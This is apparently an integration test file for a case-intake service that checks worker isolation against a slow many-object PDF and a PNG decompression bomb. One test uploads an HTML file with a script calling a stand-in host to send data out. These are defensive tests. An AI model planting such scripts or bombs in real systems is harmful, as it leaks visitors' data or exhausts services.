"""Documents are cleaned in worker processes (services.intake.cleaning), with a memory ceiling and a time limit: a file
made to exhaust a parser costs a worker, never intake; the next upload is cleaned as before; a killed intake leaves no
worker behind. Through intake's app for the answers a caseworker sees."""

from __future__ import annotations

import io
import os
import signal
import subprocess
import sys
import textwrap
import time

import pytest
from PIL import Image

from services.intake import files
from services.intake.cleaning import Cleaner
from tests.integration.intake.test_intake_documents import download, upload
from tests.support.pdfs import pdf_of

pytestmark = pytest.mark.integration

LIMIT = 20 * 1024 * 1024


def slow_pdf(objects: int) -> bytes:
    """A PDF of many small objects, under the count a document may hold: seconds of work for pypdf."""
    many = [b"<< /A %d /B (x) >>" % n for n in range(objects)]
    return pdf_of(b"<< /Type /Catalog /Pages 2 0 R /Extra 4 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                  b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1 1] >>",
                  b"[" + b" ".join(b"%d 0 R" % (5 + n) for n in range(objects)) + b"]", *many)


def png(side: int, mode: str = "RGBA") -> bytes:
    out = io.BytesIO()
    Image.new(mode, (side, side)).save(out, "PNG")
    return out.getvalue()


async def test_a_file_past_the_time_limit_is_refused_and_the_next_one_is_cleaned():
    cleaner = Cleaner(seconds=0.5)
    try:
        started = time.monotonic()
        with pytest.raises(files.TooComplex, match="within 0.5 seconds"):
            await cleaner.cleaned(slow_pdf(files.MAX_PDF_OBJECTS - 10), LIMIT)
        assert time.monotonic() - started < 3  # the worker was killed, not waited for
        assert (await cleaner.cleaned(b"a note\n", LIMIT)).data == b"a note\n"
    finally:
        cleaner.close()


async def test_a_file_that_needs_more_memory_than_a_worker_has_is_refused_and_the_next_one_is_cleaned():
    cleaner = Cleaner(memory_bytes=200 * 1024 * 1024)
    try:
        with pytest.raises(files.TooComplex):  # 7000² RGBA: 196 MB of pixels, more than what is left of 200 MB
            await cleaner.cleaned(png(7000), LIMIT)
        assert (await cleaner.cleaned(png(100), LIMIT)).content_type == files.PNG
    finally:
        cleaner.close()


def test_a_killed_intake_leaves_no_worker_behind(tmp_path):
    service = subprocess.Popen([sys.executable, "-c", textwrap.dedent("""
        import asyncio, os, sys, time
        from services.intake.cleaning import Cleaner

        async def main():
            cleaner = Cleaner()
            await cleaner.cleaned(b"a note\\n", 100)
            print(" ".join(str(p) for p in cleaner._pool._processes), flush=True)
            time.sleep(60)

        asyncio.run(main())
    """)], stdout=subprocess.PIPE, text=True, cwd=os.getcwd())
    try:
        workers = [int(pid) for pid in service.stdout.readline().split()]
        assert workers
    finally:
        service.send_signal(signal.SIGKILL)
        service.wait()
    deadline = time.monotonic() + 5
    while any(_alive(pid) for pid in workers):
        assert time.monotonic() < deadline, "a worker outlived intake"
        time.sleep(0.05)


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as stat:
            return stat.read().split()[2] != "Z"
    except FileNotFoundError:
        return False


async def test_a_caseworker_is_told_a_file_past_what_a_document_holds_is_413_and_nothing_is_stored(intake):
    case = await intake.create()
    bomb = png(int(files.MAX_PNG_PIXELS ** 0.5) + 10, mode="1")  # a few kilobytes, 200 MB once decoded as RGBA

    refused = await upload(intake, case["id"], "scan.png", bomb)

    assert refused.status_code == 413 and refused.headers["content-type"] == "application/problem+json"
    assert refused.json()["type"].endswith("/document-too-complex") and "million pixels" in refused.json()["detail"]
    assert (await intake.client.get(f"/api/intake/cases/{case['id']}/documents",
                                    headers=intake.caseworker)).json()["items"] == []


async def test_text_sent_under_a_web_page_name_is_saved_as_text(intake):
    case = await intake.create()
    added = await upload(intake, case["id"], "invoice.html", b"<script>fetch('https://x/?ip')</script>\n")
    assert added.status_code == 201 and added.json()["content_type"].startswith("text/plain")

    got = await download(intake, added.json()["id"])

    assert got.headers["content-disposition"] == \
        "attachment; filename=\"invoice.html.txt\"; filename*=UTF-8''invoice.html.txt"
    assert added.json()["filename"] == "invoice.html"  # listed as it was sent
